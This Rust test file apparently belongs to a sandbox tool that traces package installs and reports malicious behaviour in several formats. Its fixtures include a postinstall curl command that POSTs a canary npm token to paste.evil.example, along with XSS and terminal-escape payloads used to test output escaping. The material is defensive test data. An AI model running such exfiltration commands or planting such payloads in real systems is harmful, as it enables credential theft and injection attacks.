//! Reports built from a realistic hand-made trace (a postinstall that runs
//! `sh -c node install.js` → `curl`, a DNS query, an HTTPS POST that leaks a canary, a
//! file written in $HOME) and from degenerate runs (no events, an error, a timeout),
//! checked field by field and as snapshots of every output format.

#![allow(clippy::unwrap_used)]

use std::fs;
use std::path::PathBuf;

use airlock_events::{
    Event, EventKind, FsChangeKind, PackageRef, PhaseStatus, ProcRef, Source, Trace, TraceHeader,
    Verdict,
};
use airlock_report::{
    render_html, render_human, render_json, render_osv, render_sarif, JudgementInput, PhaseState,
    Report, RunInfo, Timeline, DEFAULT_TIMELINE_CAP, REPORT_SCHEMA_VERSION,
};
use serde_json::Value;

/// 2024-05-02T00:00:00Z, the fixed "now" of OSV records.
const NOW: f64 = 1_714_608_000.0;
const CANARY_VALUE: &str = "npm_Zq8canaryV4lue0000000000000000abcd";

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

fn load() -> (Trace, JudgementInput) {
    let trace = Trace::read(&fs::read(fixture("postinstall-exfil.jsonl")).unwrap()[..]).unwrap();
    let judgement: JudgementInput = serde_json::from_str(
        &fs::read_to_string(fixture("postinstall-exfil.judgement.json")).unwrap(),
    )
    .unwrap();
    (trace, judgement)
}

fn build() -> (Trace, Report) {
    let (trace, judgement) = load();
    let report = Report::from_trace(&trace, judgement);
    (trace, report)
}

/// Filters for what changes from build to build: the tool's own version.
fn filters() -> Vec<(String, String)> {
    vec![(
        regex_escape(env!("CARGO_PKG_VERSION")),
        "[version]".to_string(),
    )]
}

fn regex_escape(s: &str) -> String {
    s.chars()
        .flat_map(|c| {
            if c.is_ascii_alphanumeric() {
                vec![c]
            } else {
                vec!['\\', c]
            }
        })
        .collect()
}

macro_rules! snap {
    ($name:expr, $value:expr) => {{
        let filters = filters();
        let filters: Vec<(&str, &str)> =
            filters.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
        insta::with_settings!({ filters => filters, prepend_module_to_snapshot => false }, {
            insta::assert_snapshot!($name, $value);
        });
    }};
}

#[test]
fn model_of_the_exfiltration_trace() {
    let (_, r) = build();
    assert_eq!(r.schema_version, REPORT_SCHEMA_VERSION);
    assert_eq!(r.verdict, Verdict::Malicious);
    assert_eq!(r.package.spec(), "evil-helper@1.0.3");
    assert!(r.trace_complete);
    assert_eq!(r.run.duration_ms, Some(3700));

    // Findings: most severe first, evidence enriched with the file it touched.
    let rules: Vec<&str> = r.findings.iter().map(|f| f.rule.as_str()).collect();
    assert_eq!(
        rules,
        [
            "canary-leaked",
            "lifecycle-network-tool",
            "write-outside-package"
        ]
    );
    let leak = &r.findings[0];
    assert_eq!(
        leak.evidence[0].path.as_deref(),
        Some("/home/runner/.npmrc")
    );
    assert_eq!(
        leak.evidence[1].path, None,
        "an HTTP request touches no file"
    );
    assert_eq!(
        r.findings[1].evidence[0].chain().as_deref(),
        Some("npm install → sh -c node install.js → node install.js → node install.js")
    );

    // Phases from phase.start/phase.end.
    let phases: Vec<(&str, PhaseState, Option<i64>)> = r
        .phases
        .iter()
        .map(|p| (p.name.as_str(), p.status, p.exit_code))
        .collect();
    assert_eq!(
        phases,
        [
            ("install", PhaseState::Ok, Some(0)),
            ("import", PhaseState::Ok, Some(0))
        ]
    );
    assert_eq!(r.phases[0].command[0], "npm");

    // Process tree: npm → sh → node → curl, plus the import's node.
    let t = &r.processes;
    assert_eq!(t.total, 5);
    let roots: Vec<u32> = t.roots().iter().map(|n| n.pid).collect();
    assert_eq!(roots, [100, 200]);
    assert_eq!(t.node(100).unwrap().children, [120]);
    assert_eq!(t.node(121).unwrap().children, [130]);
    let curl = t.node(130).unwrap();
    assert_eq!(curl.exe, "curl");
    assert_eq!(
        curl.argv,
        "curl -s -X POST -d @- https://paste.evil.example/api"
    );
    assert_eq!(curl.lifecycle.as_deref(), Some("postinstall"));
    assert_eq!(curl.exit_code, Some(0));

    // Notable commands: only lifecycle and import execs, not npm itself.
    let cmds: Vec<&str> = r
        .notable_commands
        .iter()
        .map(|c| c.command.as_str())
        .collect();
    assert_eq!(
        cmds,
        [
            "sh -c 'node install.js'",
            "node install.js",
            "curl -s -X POST -d @- https://paste.evil.example/api",
        ],
        "the import harness is airlock's own command, not notable"
    );

    // Network: the sink's DNS view wins over the syscall view (no double count).
    assert_eq!(r.network.dns.len(), 1);
    assert_eq!(r.network.dns[0].answers, ["198.18.0.7"]);
    assert_eq!(r.counts.dns_queries, 1);
    assert_eq!(r.network.connections.len(), 1);
    assert_eq!(
        r.network.connect_attempts[0]
            .process
            .as_deref()
            .map(|p| p.ends_with("curl -s -X POST -d @- https://paste.evil.example/api")),
        Some(true)
    );
    assert_eq!(r.network.http[0].method, "POST");
    assert!(
        !r.network.http[0].body_truncated,
        "the whole 95-byte body was captured"
    );
    assert!(r.network.http[0]
        .body_preview
        .starts_with("token=[canary:npm-token]&host="));
    assert_eq!(r.network.tls[0].sni.as_deref(), Some("paste.evil.example"));

    // Files outside the package only.
    let files: Vec<(&str, FsChangeKind)> = r
        .files
        .written_outside_package
        .iter()
        .map(|f| (f.path.as_str(), f.change))
        .collect();
    assert_eq!(
        files,
        [("/home/runner/.config/evil/id", FsChangeKind::Added)]
    );

    // Canaries.
    assert_eq!(r.canaries.planted.len(), 2);
    assert_eq!(
        r.canaries.leaked[0].destination,
        "https://paste.evil.example/api"
    );
    assert_eq!(r.canaries.read[0].path, "/home/runner/.npmrc");

    assert_eq!(r.counts.events, 29);
    assert_eq!(r.counts.processes, 5);
    assert_eq!(r.counts.connections, 1);
    assert_eq!(r.counts.http_requests, 1);
    assert_eq!(
        r.counts.files_written, 2,
        "~/.config/evil/id and the package's install.js"
    );
    assert!(r.notes.contains(&"time_acceleration: x60".to_string()));
}

#[test]
fn canary_values_never_reach_any_output() {
    let (trace, r) = build();
    let timeline = Timeline::build(&trace.header, &trace.events, DEFAULT_TIMELINE_CAP);
    let json = render_json(&r).unwrap();
    assert!(
        json.contains("[canary:npm-token]"),
        "the body is kept, redacted"
    );
    for (name, out) in [
        ("json", json),
        ("human", render_human(&r, false)),
        ("sarif", render_sarif(&r).unwrap()),
        ("osv", render_osv(&r, NOW).unwrap()),
        ("html", render_html(&r, Some(&timeline))),
    ] {
        assert!(!out.contains(CANARY_VALUE), "{name} leaks the canary value");
        assert!(
            !out.contains("wJalrXUtnFEMI"),
            "{name} leaks a planted value"
        );
    }
}

#[test]
fn json_round_trips_and_keeps_the_contract_fields() {
    let (_, r) = build();
    let text = render_json(&r).unwrap();
    let back = Report::from_json(&text, "mem").unwrap();
    assert_eq!(back, r);
    let v: Value = serde_json::from_str(&text).unwrap();
    for key in [
        "schema_version",
        "tool",
        "package",
        "verdict",
        "score",
        "ruleset",
        "findings",
        "phases",
        "network",
        "canaries",
        "processes",
        "files",
        "counts",
        "notable_commands",
        "limits",
        "notes",
        "trace_complete",
        "error",
    ] {
        assert!(v.get(key).is_some(), "missing {key}");
    }
    assert_eq!(v["verdict"], "malicious");
    assert!(v["verdict_reason"]
        .as_str()
        .unwrap()
        .starts_with("proof of harm: canary-leaked"));
    assert_eq!(v["findings"][0]["kind"], "proof");
    assert_eq!(v["package"]["ecosystem"], "npm");
    for key in [
        "rule",
        "severity",
        "confidence",
        "message",
        "decisive",
        "kind",
        "tags",
        "evidence",
    ] {
        assert!(v["findings"][0].get(key).is_some(), "finding lacks {key}");
    }
    for key in ["name", "status", "exit_code", "duration_ms", "output_tail"] {
        assert!(v["phases"][0].get(key).is_some(), "phase lacks {key}");
    }
    assert!(v["network"]["dns"][0].get("qtype").is_some());
    assert!(v["network"]["http"][0].get("body_preview").is_some());
    assert!(v["canaries"]["planted"][0].get("value").is_none());
    assert!(Report::from_json("{", "bad.json")
        .unwrap_err()
        .to_string()
        .contains("bad.json"));
}

#[test]
fn html_escapes_attacker_strings() {
    let (mut trace, judgement) = load();
    // Put markup in argv and a process chain as well as the URL and body of the fixture.
    for e in &mut trace.events {
        if let EventKind::ProcessExec { argv, .. } = &mut e.kind {
            argv.push("<script>alert(2)</script>".into());
        }
        if let Some(p) = &mut e.proc {
            p.chain.push("<img src=x onerror=alert(3)>".into());
        }
    }
    let r = Report::build(&trace.header, &trace.events, judgement, RunInfo::default());
    let timeline = Timeline::build(&trace.header, &trace.events, DEFAULT_TIMELINE_CAP);
    let html = render_html(&r, Some(&timeline));
    assert!(!html.contains("<script"), "unescaped script tag");
    assert!(!html.contains("<img"), "unescaped img tag");
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "URL shown escaped"
    );
    assert!(
        html.contains("&lt;script&gt;alert(2)&lt;/script&gt;"),
        "argv shown escaped"
    );
    assert!(
        html.contains("&lt;/pre&gt;&lt;script&gt;alert(&#39;x&#39;)"),
        "body shown escaped"
    );
    assert!(
        html.contains("&lt;img src=x onerror=alert(3)&gt;"),
        "chain shown escaped"
    );
    // Self-contained: nothing loaded from elsewhere.
    for needle in ["src=\"http", "href=\"http", "@import", "url("] {
        assert!(!html.contains(needle), "external reference {needle}");
    }
    assert!(html.contains("Content-Security-Policy"));
}

#[test]
fn human_report_fits_100_columns_and_neutralises_escapes() {
    let (mut trace, judgement) = load();
    for e in &mut trace.events {
        if let EventKind::HttpRequest { url, .. } = &mut e.kind {
            url.push_str("\x1b[2J\x1b]0;owned\x07");
        }
    }
    let r = Report::build(&trace.header, &trace.events, judgement, RunInfo::default());
    let plain = render_human(&r, false);
    assert!(
        !plain.contains('\x1b'),
        "a raw ESC reached the terminal:\n{plain}"
    );
    assert!(plain.contains("\\x1b[2J"));
    for line in plain.lines() {
        assert!(
            line.chars().count() <= 100,
            "line over 100 columns: {line:?}"
        );
    }
    let colored = render_human(&r, true);
    assert!(colored.contains("\x1b[1;97;41m MALICIOUS \x1b[0m"));
    assert!(plain.starts_with("╭"), "verdict box first");
    assert!(plain.lines().nth(1).unwrap().contains("MALICIOUS"));
}

#[test]
fn sarif_has_the_required_structure() {
    let (_, r) = build();
    let v: Value = serde_json::from_str(&render_sarif(&r).unwrap()).unwrap();
    assert_sarif_valid(&v);
    let run = &v["runs"][0];
    assert_eq!(run["properties"]["verdict"], "malicious");
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), 3);
    assert_eq!(results[0]["ruleId"], "canary-leaked");
    assert_eq!(results[0]["level"], "error");
    assert_eq!(results[2]["level"], "note");
    // The canary finding's first evidence read ~/.npmrc: a physical location.
    let locs = results[0]["locations"].as_array().unwrap();
    assert_eq!(
        locs[0]["physicalLocation"]["artifactLocation"]["uri"],
        "file:///home/runner/.npmrc"
    );
    assert_eq!(
        locs[0]["logicalLocations"][0]["fullyQualifiedName"],
        "npm:evil-helper@1.0.3"
    );
    // No file in the evidence: the package alone.
    let net = results
        .iter()
        .find(|r| r["ruleId"] == "lifecycle-network-tool")
        .unwrap();
    assert!(
        net["locations"][0].get("physicalLocation").is_some(),
        "exec path is a file"
    );
}

/// The required properties of SARIF 2.1.0 (sarif-schema-2.1.0.json) for what we emit.
fn assert_sarif_valid(v: &Value) {
    assert_eq!(v["version"], "2.1.0");
    assert!(v["$schema"].as_str().unwrap().contains("sarif-2.1.0"));
    let runs = v["runs"].as_array().expect("runs is an array");
    for run in runs {
        let driver = &run["tool"]["driver"];
        assert!(driver["name"].is_string(), "tool.driver.name is required");
        let rules = driver["rules"].as_array().cloned().unwrap_or_default();
        for rule in &rules {
            assert!(rule["id"].is_string(), "reportingDescriptor.id is required");
            if let Some(sd) = rule.get("shortDescription") {
                assert!(
                    sd["text"].is_string(),
                    "multiformatMessageString.text is required"
                );
            }
            if let Some(level) = rule.pointer("/defaultConfiguration/level") {
                assert!(["none", "note", "warning", "error"].contains(&level.as_str().unwrap()));
            }
        }
        for inv in run["invocations"].as_array().cloned().unwrap_or_default() {
            assert!(
                inv["executionSuccessful"].is_boolean(),
                "invocation.executionSuccessful"
            );
        }
        for res in run["results"].as_array().expect("results array") {
            assert!(
                res["message"]["text"].is_string(),
                "result.message is required"
            );
            assert!(["none", "note", "warning", "error"].contains(&res["level"].as_str().unwrap()));
            let idx = res["ruleIndex"].as_u64().unwrap() as usize;
            assert_eq!(
                rules[idx]["id"], res["ruleId"],
                "ruleIndex points at ruleId"
            );
            for loc in res["locations"].as_array().unwrap() {
                if let Some(p) = loc.get("physicalLocation") {
                    assert!(p["artifactLocation"]["uri"].is_string());
                    if let Some(line) = p.pointer("/region/startLine") {
                        assert!(line.as_u64().unwrap() >= 1);
                    }
                }
                for l in loc["logicalLocations"].as_array().unwrap() {
                    assert!(l["name"].is_string() || l["fullyQualifiedName"].is_string());
                }
            }
        }
    }
}

#[test]
fn osv_record_for_a_malicious_package() {
    let (_, r) = build();
    let v: Value = serde_json::from_str(&render_osv(&r, NOW).unwrap()).unwrap();
    assert_eq!(v["schema_version"], "1.6.0");
    assert_eq!(v["id"], "MAL-0000-DRAFT");
    assert_eq!(v["summary"], "Malicious code in evil-helper (npm)");
    assert_eq!(v["modified"], "2024-05-02T00:00:00Z");
    assert_eq!(v["affected"][0]["package"]["ecosystem"], "npm");
    assert_eq!(v["affected"][0]["versions"][0], "1.0.3");
    let iocs = &v["database_specific"]["iocs"];
    assert_eq!(iocs["domains"], serde_json::json!(["paste.evil.example"]));
    assert_eq!(
        iocs["ips"],
        serde_json::json!([]),
        "sink addresses are not indicators"
    );
    assert!(iocs["urls"][0]
        .as_str()
        .unwrap()
        .starts_with("https://paste.evil.example/api"));
    let details = v["details"].as_str().unwrap();
    assert!(
        details.contains("`postinstall` script runs `sh -c 'node install.js'`"),
        "{details}"
    );
    assert!(!details.contains("NOT A MALICIOUS-PACKAGE CLAIM"));
    assert_eq!(
        v["database_specific"]["artifact"]["sha256"],
        "9f2c1b7e8d4a5c6b3e2f1a0d9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b"
    );
}

#[test]
fn osv_for_a_benign_verdict_says_it_is_no_claim() {
    let (trace, mut j) = load();
    j.verdict = Verdict::Benign;
    j.findings.clear();
    let r = Report::build(
        &trace.header,
        &trace.events,
        j,
        RunInfo {
            complete: true,
            ..Default::default()
        },
    );
    let v: Value = serde_json::from_str(&render_osv(&r, NOW).unwrap()).unwrap();
    assert!(v["details"]
        .as_str()
        .unwrap()
        .contains("NOT A MALICIOUS-PACKAGE CLAIM"));
    assert_eq!(v["database_specific"]["airlock"]["verdict"], "benign");
}

fn empty_header() -> TraceHeader {
    TraceHeader {
        schema_version: 1,
        run_id: "run-empty".into(),
        started_at: 1_714_564_800.0,
        package: PackageRef {
            ecosystem: Some(airlock_events::Ecosystem::Pypi),
            name: "tiny".into(),
            version: "0.1".into(),
            ..Default::default()
        },
        tool_version: "0.1.0".into(),
        image: None,
        persona: None,
        home: None,
        package_dir: None,
        canaries: vec![],
        notes: Default::default(),
    }
}

fn all_formats(r: &Report, timeline: Option<&Timeline>) -> [String; 5] {
    [
        render_human(r, false),
        render_json(r).unwrap(),
        render_sarif(r).unwrap(),
        render_osv(r, NOW).unwrap(),
        render_html(r, timeline),
    ]
}

#[test]
fn zero_events_render_in_every_format() {
    let h = empty_header();
    let r = Report::build(&h, &[], JudgementInput::not_evaluated(), RunInfo::default());
    assert_eq!(r.verdict, Verdict::NotEvaluated);
    assert_eq!(r.counts.events, 0);
    assert!(!r.trace_complete);
    let timeline = Timeline::build(&h, &[], 10);
    let [human, json, sarif, osv, html] = all_formats(&r, Some(&timeline));
    assert!(
        human.contains("NOT EVALUATED") && human.contains("no phase ran"),
        "{human}"
    );
    assert!(human.contains("the trace is incomplete"));
    assert!(json.contains("\"verdict\": \"not-evaluated\""));
    assert_sarif_valid(&serde_json::from_str(&sarif).unwrap());
    assert!(osv.contains("Malicious code in tiny (PyPI)") && osv.contains("NOT A MALICIOUS"));
    assert!(html.contains("The trace holds no events.") && html.contains("No rules were run."));
    snap!("empty_human", human);
}

#[test]
fn error_run_renders_and_is_never_benign() {
    let h = empty_header();
    let judgement = JudgementInput {
        verdict: Verdict::Benign,
        ..JudgementInput::not_evaluated()
    };
    let run = RunInfo {
        error: Some("docker engine did not answer at /var/run/docker.sock".into()),
        ..Default::default()
    };
    let r = Report::build(&h, &[], judgement, run);
    assert_eq!(r.verdict, Verdict::Error, "an error run reported benign");
    let [human, json, sarif, _, html] = all_formats(&r, None);
    assert!(
        human.contains(" ERROR  docker engine did not answer"),
        "{human}"
    );
    assert!(json.contains("\"error\": \"docker engine did not answer"));
    let s: Value = serde_json::from_str(&sarif).unwrap();
    assert_sarif_valid(&s);
    assert_eq!(s["runs"][0]["invocations"][0]["executionSuccessful"], false);
    assert!(html.contains("<b>Error:</b> docker engine did not answer"));
    assert!(html.contains("The events were not available"));
    snap!("error_human", human);
}

#[test]
fn timed_out_phase_is_reported_and_not_benign() {
    let h = empty_header();
    let mk = |seq, kind| {
        let mut e = Event::new(
            1_714_564_801.0 + seq as f64,
            "install",
            Source::Sandbox,
            kind,
        );
        e.seq = seq;
        e
    };
    let events = vec![
        mk(
            0,
            EventKind::PhaseStart {
                name: "install".into(),
                command: vec!["pip".into(), "install".into()],
            },
        ),
        mk(1, EventKind::ProcessStart { pid: 5, ppid: 1 }).with_proc(ProcRef {
            pid: 1,
            exe: "pip".into(),
            ..Default::default()
        }),
        mk(
            2,
            EventKind::LimitHit {
                limit: "time".into(),
                detail: "phase install exceeded 120 s".into(),
            },
        ),
        mk(
            3,
            EventKind::PhaseEnd {
                name: "install".into(),
                status: PhaseStatus::TimedOut,
                exit_code: None,
                duration_ms: 120_000,
                output_tail: "Collecting tiny\nBuilding wheel for tiny (setup.py) ...\n".into(),
                output_bytes: 60,
            },
        ),
        mk(
            4,
            EventKind::PhaseStart {
                name: "import".into(),
                command: vec!["python3".into()],
            },
        ),
    ];
    let judgement = JudgementInput {
        verdict: Verdict::Benign,
        ..JudgementInput::not_evaluated()
    };
    let r = Report::build(
        &h,
        &events,
        judgement,
        RunInfo {
            complete: false,
            ..Default::default()
        },
    );
    assert_eq!(r.verdict, Verdict::TimedOut);
    assert_eq!(r.phases[0].status, PhaseState::TimedOut);
    assert_eq!(r.phases[1].status, PhaseState::Unfinished);
    assert_eq!(r.limits[0].limit, "time");
    // The child of pip inherits its image until it execs.
    assert_eq!(r.processes.node(5).unwrap().exe, "pip");
    let timeline = Timeline::build(&h, &events, DEFAULT_TIMELINE_CAP);
    let [human, _, sarif, _, html] = all_formats(&r, Some(&timeline));
    assert!(
        human.contains("TIMED OUT") && human.contains("timed out"),
        "{human}"
    );
    assert!(
        human.contains("Building wheel for tiny"),
        "output tail of the failed phase"
    );
    assert_sarif_valid(&serde_json::from_str(&sarif).unwrap());
    assert!(html.contains("timed out") && html.contains("phase install exceeded 120 s"));
    snap!("timed_out_human", human);
}

#[test]
fn caps_hold_on_big_traces() {
    let h = empty_header();
    let events: Vec<Event> = (0..3000u32)
        .map(|i| {
            let mut e = Event::new(
                1_714_564_801.0,
                "install",
                Source::Strace,
                EventKind::ProcessStart {
                    pid: 1000 + i,
                    ppid: 1000 + i.saturating_sub(1),
                },
            )
            .with_proc(ProcRef {
                pid: 999 + i,
                exe: "sh".into(),
                lifecycle: Some("postinstall".into()),
                ..Default::default()
            });
            e.seq = u64::from(i);
            e
        })
        .collect();
    let r = Report::build(
        &h,
        &events,
        JudgementInput::not_evaluated(),
        RunInfo::default(),
    );
    assert_eq!(r.processes.total, 3001);
    assert_eq!(r.processes.nodes.len(), airlock_report::MAX_PROCESSES);
    assert!(r.notes.iter().any(|n| n.contains("process tree capped")));
    // A 3000-deep chain: the human renderer neither overflows the stack nor the width.
    let human = render_human(&r, false);
    assert!(human.contains("more processes"));
    assert!(human.lines().all(|l| l.chars().count() <= 100));
    let t = Timeline::build(&h, &events, DEFAULT_TIMELINE_CAP);
    assert_eq!(t.omitted, 1000);
    assert!(render_html(&r, Some(&t)).contains("1000 later events not shown"));
}

#[test]
fn snapshots_of_every_format() {
    let (trace, r) = build();
    let timeline = Timeline::build(&trace.header, &trace.events, DEFAULT_TIMELINE_CAP);
    snap!("exfil_human", render_human(&r, false));
    snap!("exfil_json", render_json(&r).unwrap());
    snap!("exfil_sarif", render_sarif(&r).unwrap());
    snap!("exfil_osv", render_osv(&r, NOW).unwrap());
    snap!("exfil_html", render_html(&r, Some(&timeline)));
}

#[test]
fn long_http_bodies_are_previewed_and_marked_cut() {
    let (mut trace, judgement) = load();
    for e in &mut trace.events {
        if let EventKind::HttpRequest {
            body, body_bytes, ..
        } = &mut e.kind
        {
            *body = "é".repeat(5000);
            *body_bytes = 10_000;
        }
    }
    let r = Report::build(&trace.header, &trace.events, judgement, RunInfo::default());
    let h = &r.network.http[0];
    assert!(h.body_truncated);
    assert_eq!(
        h.body_preview.chars().count(),
        airlock_report::BODY_PREVIEW_CHARS
    );
    assert!(h.body_preview.ends_with('…'));
}

/// A waived finding stays in every format, marked, and the first line says so.
#[test]
fn waived_findings_are_shown_marked_in_every_format() {
    let (trace, mut judgement) = load();
    for f in &mut judgement.findings {
        if f.rule == "lifecycle-network-tool" {
            f.waived = Some(airlock_events::Waived {
                reason: "downloads its own binary".into(),
                expires: "2027-06-30".into(),
                source: "airlock.toml:3".into(),
            });
        }
    }
    let r = Report::from_trace(&trace, judgement);
    let f = r
        .findings
        .iter()
        .find(|f| f.rule == "lifecycle-network-tool")
        .unwrap();
    assert!(f.waived.is_some());
    // Waived findings sort last.
    assert_eq!(r.findings.last().unwrap().rule, "lifecycle-network-tool");
    assert!(
        r.verdict_reason.ends_with("; 1 finding waived"),
        "{}",
        r.verdict_reason
    );
    let human = render_human(&r, false);
    assert!(human.contains("WAIVED"), "{human}");
    assert!(human.contains("waived until 2027-06-30 (airlock.toml:3): downloads its own binary"));
    let sarif: Value = serde_json::from_str(&render_sarif(&r).unwrap()).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let waived = results
        .iter()
        .find(|x| x["ruleId"] == "lifecycle-network-tool")
        .unwrap();
    assert_eq!(waived["suppressions"][0]["kind"], "external");
    assert_eq!(waived["properties"]["kind"], "signal");
    let proof = results
        .iter()
        .find(|x| x["ruleId"] == "canary-leaked")
        .unwrap();
    assert_eq!(proof["properties"]["kind"], "proof");
    assert!(proof.get("suppressions").is_none());
    let json: Value = serde_json::from_str(&render_json(&r).unwrap()).unwrap();
    assert_eq!(json["findings"].as_array().unwrap().len(), 3);
    let html = render_html(&r, None);
    assert!(html.contains("WAIVED · "), "html");
    let osv = render_osv(&r, 0.0).unwrap();
    assert!(osv.contains("\"waived\""), "{osv}");
}
